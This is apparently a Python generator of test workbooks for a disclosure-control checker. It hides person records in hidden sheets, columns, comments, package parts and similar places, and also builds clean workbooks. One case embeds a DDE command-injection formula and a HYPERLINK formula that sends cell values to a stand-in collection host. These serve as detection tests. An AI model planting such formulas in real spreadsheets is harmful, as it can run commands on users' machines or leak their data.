"""Workbooks: what lies behind the visible cells."""

from __future__ import annotations

import io
import zipfile
from typing import Any

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName

from tests.corpus.case import Case, Draw, cases
from tests.corpus.second.documents.material import COUNTIES, as_json, named, parcel, persons, records, safe_counts


def book(d: Draw, sheets: int = 1) -> Workbook:
    """Visible sheets of counties with large counts."""
    out = Workbook()
    for i in range(sheets):
        sheet: Any = out.active if i == 0 else out.create_sheet(f"Table {i + 1}")
        sheet.title = f"Table {i + 1}"
        sheet.append(["county", "students"])
        for row in safe_counts(d.rng, COUNTIES).itertuples(index=False):
            sheet.append([row.county, int(row.students)])
    return out


def saved(out: Workbook) -> bytes:
    data = io.BytesIO()
    out.save(data)
    return data.getvalue()


def with_part(data: bytes, **parts: str | bytes) -> bytes:
    """The package with further parts; `__` is a slash, `_dot_` a dot."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as z:
        for name, text in parts.items():
            z.writestr(name.replace("__", "/").replace("_dot_", "."), text)
    return out.getvalue()


def fill(sheet: Any, frame: Any) -> None:
    sheet.append([str(c) for c in frame.columns])
    for row in frame.itertuples(index=False):
        sheet.append([v.item() if hasattr(v, "item") else v for v in row])


@cases(10)
def hidden_in_a_workbook(d: Draw) -> Case:
    people, out = persons(d.rng, 30), book(d)
    sheet: Any = out.active
    rule, why = "hidden_content unit_record", "thirty persons"
    if d.turn < 2:
        extra = out.create_sheet("raw")
        fill(extra, people)
        extra.sheet_state, why = ["hidden", "veryHidden"][d.turn], "a hidden sheet of thirty persons"
    elif d.turn == 2:
        for i, p in enumerate(people.itertuples(), 1):
            sheet.cell(i, 5, p.person_id), sheet.cell(i, 6, p.wage)
        sheet.column_dimensions["E"].hidden = sheet.column_dimensions["F"].hidden = True
        why = "hidden columns of thirty persons"
    elif d.turn == 3:
        for i, c in enumerate(["Mono", "Sierra", "Alpine"], 14):
            sheet.cell(i, 1, c), sheet.cell(i, 2, 3 + i % 4)
            sheet.row_dimensions[i].hidden = True
        rule, why = "hidden_content min_cell", "hidden rows with counts below 11"
    elif d.turn == 4:
        for i, p in enumerate(people.head(11).itertuples(), 2):
            sheet.cell(i, 2).comment = Comment(f"mostly {p.person_id}, wage {p.wage}, GPA {p.gpa}", "ra")
        why = "comments name persons and their wages"
    elif d.turn == 5:
        out.defined_names["rawdata"] = DefinedName(
            "rawdata", attr_text="{" + ";".join(f"{p.person_id},{p.wage}" for p in people.itertuples()) + "}"
        )
        why = "a defined name holds thirty persons"
    elif d.turn == 6:
        for i, p in enumerate(people.itertuples(), 1):
            for j, v in enumerate([p.person_id, p.wage], 10):
                sheet.cell(i, j, v).font = Font(color="FFFFFF")
        why = "white text of thirty persons"
    elif d.turn == 7:
        for i, p in enumerate(people.itertuples(), 1):
            sheet.cell(i, 10, p.person_id).number_format = ";;;"
            sheet.cell(i, 11, p.wage).number_format = ";;;"
        why = "thirty persons in a format that shows nothing"
    elif d.turn == 8:
        for i, p in enumerate(named(d.rng, 20).itertuples(), 1):
            sheet.cell(i, 10, f"{p.first_name} {p.last_name} {p.date_of_birth}")
        rule, why = "identifier", "a column far to the right with names and dates of birth"
    else:
        from openpyxl.packaging.custom import StringProperty

        out.custom_doc_props.append(StringProperty(name="cache", value=as_json(records(people), None)))
        why = "a custom property holds thirty persons"
    return d.disclosive(rule, why, parcel(d, "tables.xlsx", saved(out), "frequency", counts="students"))


@cases(6)
def parts_of_a_package(d: Draw) -> Case:
    people, data = persons(d.rng, 30), saved(book(d))
    xml = "<?xml version='1.0'?>"
    rows = "".join(f"<r><n v='{p.person_id}'/><n v='{p.wage}'/></r>" for p in people.itertuples())
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as z:
        z.writestr("rows.csv", people.to_csv(index=False))
    part: dict[str, str | bytes] = [
        {"xl__pivotCache__pivotCacheRecords1_dot_xml": f"{xml}<pivotCacheRecords xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' count='30'>{rows}</pivotCacheRecords>"},
        {"xl__externalLinks__externalLink1_dot_xml": f"{xml}<externalLink xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><externalBook><sheetDataSet><sheetData sheetId='0'>" + "".join(f"<row r='{i}'><cell r='A{i}'><v>{p.person_id}</v></cell><cell r='B{i}'><v>{p.wage}</v></cell></row>" for i, p in enumerate(people.itertuples(), 1)) + "</sheetData></sheetDataSet></externalBook></externalLink>"},
        {"xl__embeddings__oleObject1_dot_bin": packed.getvalue()},
        {"xl__vbaProject_dot_bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + people.to_csv(index=False).encode()},
        {"customXml__item1_dot_xml": f"{xml}<rows>{rows}</rows>"},
        {"xl__charts__chart1_dot_xml": f"{xml}<c:chartSpace xmlns:c='http://schemas.openxmlformats.org/drawingml/2006/chart'><c:chart><c:plotArea><c:scatterChart><c:ser><c:yVal><c:numRef><c:f>[1]raw!$B$1:$B$30</c:f><c:numCache><c:ptCount val='30'/>" + "".join(f"<c:pt idx='{i}'><c:v>{p.wage}</c:v></c:pt>" for i, p in enumerate(people.itertuples())) + "</c:numCache></c:numRef></c:yVal></c:ser></c:scatterChart></c:plotArea></c:chart></c:chartSpace>"},
    ][d.turn]  # fmt: skip
    return d.disclosive("hidden_content unit_record file_kind", "a part of the package carries thirty persons", parcel(d, "tables.xlsm" if d.turn == 3 else "tables.xlsx", with_part(data, **part), "frequency", counts="students"))  # fmt: skip


@cases(2)
def formulas_in_text(d: Draw) -> Case:
    out = book(d)
    sheet: Any = out.active
    cell = sheet.cell(
        15, 1, '=HYPERLINK("http://collect.example/?d="&B2&B3,"source")' if d.turn else "=cmd|'/c calc'!A1"
    )
    cell.data_type = "s"
    return d.disclosive(
        "hidden_content",
        "a text cell holds a formula that sends cells away",
        parcel(d, "tables.xlsx", saved(out), "frequency", counts="students"),
    )


@cases(2)
def listing_sheet(d: Draw) -> Case:
    out = book(d)
    fill(out.create_sheet("Appendix"), persons(d.rng, 40) if d.turn else named(d.rng, 12))
    return d.disclosive(
        "unit_record identifier", "a visible sheet lists persons", parcel(d, "appendix.xlsx", saved(out), "frequency")
    )


@cases(6)
def clean_workbook(d: Draw) -> Case:
    out = book(d, 1 + d.turn % 3)
    sheet: Any = out.active
    sheet.freeze_panes, sheet.auto_filter.ref = "B2", "A1:B13"
    if d.turn in (1, 3):
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=13), titles_from_data=True)
        chart.set_categories(Reference(sheet, min_col=1, min_row=2, max_row=13))
        sheet.add_chart(chart, "E2")
    if d.turn in (2, 3):
        notes = out.create_sheet("Notes", 0)
        for line in [
            "Students by county, 2019",
            "Counts are rounded to 5; cells below 11 would be suppressed (*).",
            "Version 3 of 14 March 2024, 2 tables",
        ]:
            notes.append([line])
    if d.turn == 4:
        sheet.print_title_rows, sheet.print_area = "1:1", "A1:B13"
        sheet.cell(15, 1, "Source: state records")
        sheet.cell(2, 2).comment = Comment("Rounded to 5 like all counts here.", "author")
    if d.turn == 5:
        out.properties.creator, out.properties.keywords = "Ana Lee", "students, counties"
    return d.harmless(
        "hidden_content",
        "visible counties, charts of them, notes",
        parcel(d, "tables.xlsx", saved(out), "frequency", rows=["county"], counts="students"),
    )
